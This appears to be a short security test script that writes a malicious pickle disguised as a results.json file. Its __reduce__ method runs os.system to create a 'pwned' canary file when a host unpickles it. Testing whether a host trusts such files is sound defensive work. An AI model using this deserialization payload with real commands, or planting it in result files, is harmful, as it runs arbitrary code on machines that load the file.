"""Write a pickle (with a payload) as the result file, hoping the host unpickles it."""

import json
import os
import pickle
import sys

cfg = json.loads(sys.argv[1])


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {cfg['canary_dir']}/pwned",))


with open("results.json", "wb") as handle:
    pickle.dump({"hist": Payload()}, handle)
